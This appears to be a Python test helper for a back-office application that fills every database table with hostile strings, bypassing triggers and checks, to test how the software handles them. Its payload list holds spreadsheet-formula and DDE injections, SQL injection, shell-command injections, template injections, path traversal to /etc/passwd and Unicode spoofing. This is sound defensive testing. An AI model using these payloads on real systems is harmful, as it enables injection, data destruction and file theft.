"""An office in whose every text stands something hostile: a row in every table, written past every rule.

What checks a form, an import or an action could stop is not in the way here: rows are written into the tables
themselves, without their triggers and checks. So whatever reads them meets the worst there can be, and a new plugin's
tables are among them by themselves.
"""

from __future__ import annotations

import json
import os
import unicodedata
from collections.abc import Callable, Iterator
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from functools import cache
from math import isqrt
from pathlib import Path
from typing import Any, Final

import sqlalchemy as sa

from backoffice.core.office import Backoffice
from backoffice.core.persistence import fields_of
from backoffice.core.persistence.types import SealedText
from backoffice.core.plugins.discovery import discover
from backoffice.core.secrets import Sealed
from backoffice.core.testing.offices import Offices

from .payloads import payloads

FOLDER: Final = "BACKOFFICE_TEST_TEXTS"
"""Environment variable with a folder of more texts: JSON lists of them, and files with one in each line."""

STEADY: Final = {
    "currency": "GBP", "country": "GB", "language": "en", "timezone": "Europe/London", "zone": "Europe/London",
    "calendar": "gregorian", "unit": "C62",
}  # fmt: skip
"""Fields whose values are looked up and not only shown."""
KEPT: Final = ("core_organization", "core_company", "core_user", "core_role", "core_plugin")
"""How tables begin whose rows the program itself needs; their texts are written over."""
LONGEST: Final = 4000
TEXT: Final = {"text", "long_text", "email", "phone"}

NAUGHTY: Final = (
    "=HYPERLINK(\"http://127.0.0.1:9\";\"x\")", "=cmd|'/C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "'=1+1", "''=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    ' =1+1', '"=1+1', ';=1+1', ',=1+1', '=1+1;"', '=IMPORTXML(CONCAT("http://127.0.0.1:9/",A1),"//a")',
    "=WEBSERVICE(\"http://127.0.0.1:9\")", "DDE (\"cmd\";\"/C calc\";\"!A0\")A0", "http://127.0.0.1:9/", "file:///etc/passwd",
    "mailto:x@127.0.0.1", "'; DROP TABLE core_user; --", '" OR ""="', "1' OR '1'='1", "1;SELECT pg_sleep(9)",
    "%s%n%x%d", "%(x)s", "{0}{x}", "{{7*7}}", "${7*7}", "#{7*7}", "<%=7*7%>", "{% raw %}", "$(touch x)", "`id`",
    "| id", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "CON", "NUL", "COM1", "null", "None", "undefined",
    "NaN", "Infinity", "-0", "1e400", "0x7f", "1/0", "٠١٢٣", "１２３", "true", "[]", "{}", "__proto__", "constructor",
    "\u202egnp.exe", "\u2066x", "\u200b", "\u2060\ufeff", "\u2028\u2029", "\u00ad", "\ufffe x \uffff", "﷽",
    "Z" + "\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324" * 9, "Å\u0301", "ﬁ", "a" * 2000,
    "👩‍👩‍👧 🏳️‍🌈 🇸🇦", "𝒳𝕐𝓩", "田中さんにあげて下さい", "بسم الله", "ı İ ſ K", "﹤script﹥", "x_x0041_y", "_x000D_",
    "&amp;&lt;&#39;", "]]>", "<!--", "-->", "--", "two\r\nlines", "a\ttab",
)  # fmt: skip
"""Texts that break what reads files, formats and other languages, beside those that become scripts."""


def texts() -> list[str]:
    """Return every hostile text that a field takes, with those of the folder that the environment names.

    There are so many that no smaller number divides theirs: written one after the other into rows of any width, each
    comes into each column once before one comes again.
    """
    every = (text for text in dict.fromkeys((*NAUGHTY, *payloads(), *_more())) if text.strip() and _writable(text))
    found = list(every)
    while any(len(found) % n == 0 for n in range(2, isqrt(len(found)) + 1)):
        found.append(f"={len(found)}")
    return found


def _more() -> Iterator[str]:
    for path in sorted(Path(os.environ[FOLDER]).rglob("*")) if FOLDER in os.environ else ():
        if path.suffix == ".json":
            yield from (text for text in json.loads(path.read_text("utf-8")) if isinstance(text, str))
        elif path.suffix in {".txt", ".md", ".svg"}:
            yield from path.read_text("utf-8", errors="replace").splitlines()


def _writable(text: str) -> bool:
    return not any(unicodedata.category(c) in {"Cc", "Cs"} and c not in "\n\r\t" for c in text)


def shipped() -> list[str]:
    """Return the plugins that are installed, without those other tests of this process brought along."""
    return [one.name for one in discover() if not one.builtin and "tests" not in Path(str(one.location)).parts]


def filled(folder: Path, rows: int, write: Callable[[int], str]) -> tuple[Backoffice, dict[str, str]]:
    """Return an office with ``rows`` rows in every table, and the text written at each place.

    ``write(n)`` gives the n-th; a place is a table, a column and a row.
    """
    office = Offices("sqlite", folder).make(only=shipped())
    engine = sa.create_engine(office.configuration.database)
    with engine.connect() as connection:
        connection.exec_driver_sql("PRAGMA foreign_keys = OFF")
        connection.exec_driver_sql("PRAGMA ignore_check_constraints = ON")
        triggers = connection.exec_driver_sql("SELECT name FROM sqlite_master WHERE type = 'trigger'").scalars().all()
        for name in triggers:
            connection.exec_driver_sql(f"DROP TRIGGER {name}")
        filling = _Filling(office, connection, write)
        filling.fill(rows)
        connection.commit()
    engine.dispose()
    return office, filling.written


def _is_filled(model: Any) -> bool:
    """Tell whether rows of ``model`` are made: of plugins all, of the core what people read and what hangs on it."""
    name = model.__table__.name
    return not name.startswith("core_") or bool(set(fields_of(model)) - {"company_id", "branch_id"})


class _Filling:
    def __init__(self, office: Backoffice, connection: sa.Connection, write: Callable[[int], str]) -> None:
        self.connection, self.write = connection, write
        bases = [base for base in office.registry.models.values() if base is not None]
        nouns = [noun.model for noun in office.registry.resources.values()]
        mapped = [mapper.class_ for one in (*bases, *nouns) for mapper in one.registry.mappers]
        self.models = sorted(filter(_is_filled, set(mapped)), key=lambda model: str(model.__table__.name))
        self.wanted = {
            (office.registry.resources[one.resource].model.__tablename__, one.when[0]): one.when[1][0]
            for one in office.registry.documents.values() if one.when
        }  # fmt: skip
        """The states in which there are documents."""
        self.written: dict[str, str] = {}

    def fill(self, rows: int) -> None:
        for model in self.models:
            table, described = model.__table__, fields_of(model)
            if table.name.startswith(KEPT):
                self._write_over(table, described)
                continue
            self.connection.execute(sa.delete(table))
            for number in range(1, rows + 1):
                row = {c.name: self._value(table, c, described.get(c.name), number) for c in table.columns}
                self._insert(table, {name: value for name, value in row.items() if value is not None}, number)

    def _insert(self, table: sa.Table, row: dict[str, Any], number: int) -> None:
        try:
            self.connection.execute(sa.insert(table), row)
        except sa.exc.IntegrityError as error:
            if number == 1 or "UNIQUE" not in str(error):  # of some there can be but one
                raise

    def _write_over(self, table: sa.Table, described: Any) -> None:
        names = [name for name, field in described.items() if field.kind in TEXT and name not in STEADY
                 and name in table.columns and not field.secret and not field.read_only]  # fmt: skip
        for name in names:
            text = self._text(f"{table.name}.{name}", described[name].length)
            self.connection.exec_driver_sql(f"UPDATE {table.name} SET {name} = ?", (text,))

    def _value(self, table: sa.Table, column: sa.Column[Any], field: Any, number: int) -> Any:
        if column.name in {"organization_id", "company_id"}:
            return 1
        if column.name == "id":
            return number
        if column.name in STEADY:
            return self._plain(column, STEADY[column.name])
        if field is None:
            return self._own(column, number) if column.name in _unique(table) else self._plain(column, "x")
        if field.kind == "choice":
            return self.wanted.get((table.name, column.name)) or next(iter(field.choices), "x")
        if field.secret:
            made = Sealed("x") if isinstance(column.type, SealedText) else self._own(column, number)
            return None if column.nullable else made
        if field.kind == "ref":
            target = field.target if isinstance(field.target, str) else field.target.__tablename__
            return None if target == table.name else 1 if target.startswith(KEPT) else number
        if field.kind in TEXT or (field.kind == "code" and not field.choices):
            end = f"~{number}" if column.name in _unique(table) else ""
            return self._text(f"{table.name}.{column.name}.{number}", field.length, end)
        return self._own(column, number) if column.name in _unique(table) else self._plain(column, "x")

    def _own(self, column: sa.Column[Any], number: int) -> Any:
        """Return a value that no other row of a column has, where its type has so many."""
        made = {int: number, date: date(2026, 1, 10) + timedelta(number), bytes: f"x{number}".encode()}
        found = made.get(_python_type(column.type))
        return self._plain(column, f"x{number}") if found is None else found

    def _text(self, place: str, length: int | None, end: str = "") -> str:
        text = self.write(len(self.written))
        room = min(length or LONGEST, LONGEST) - len(end)
        self.written[place] = text[:room] + end
        return self.written[place]

    def _plain(self, column: sa.Column[Any], text: str) -> Any:
        """Return a value of the type of a column that holds no text of people."""
        default = column.default
        if default is not None and default.is_scalar:
            return default.arg
        if column.nullable and isinstance(column.type, sa.JSON | sa.LargeBinary):
            return None
        python = _python_type(column.type)
        return {str: text, int: 1, bool: False, Decimal: Decimal(1), date: date(2026, 1, 10), dict: {},
                datetime: datetime(2026, 1, 10, tzinfo=UTC), bytes: b"x"}.get(python)  # fmt: skip


@cache
def _unique(table: sa.Table) -> frozenset[str]:
    """Return the columns whose values tell rows apart."""
    constraints = [one for one in table.constraints if isinstance(one, sa.UniqueConstraint)]
    return frozenset(c.name for one in (*constraints, *(i for i in table.indexes if i.unique)) for c in one.columns)


def _python_type(type_: Any) -> type:
    if isinstance(type_, sa.types.TypeDecorator):
        name = type(type_).__name__
        if name in {"Money", "Quantity", "UnitPrice", "Rate", "Percent"}:
            return Decimal
        type_ = type_.impl
    return dict if isinstance(type_, sa.JSON) else type_.python_type  # type: ignore[no-any-return]
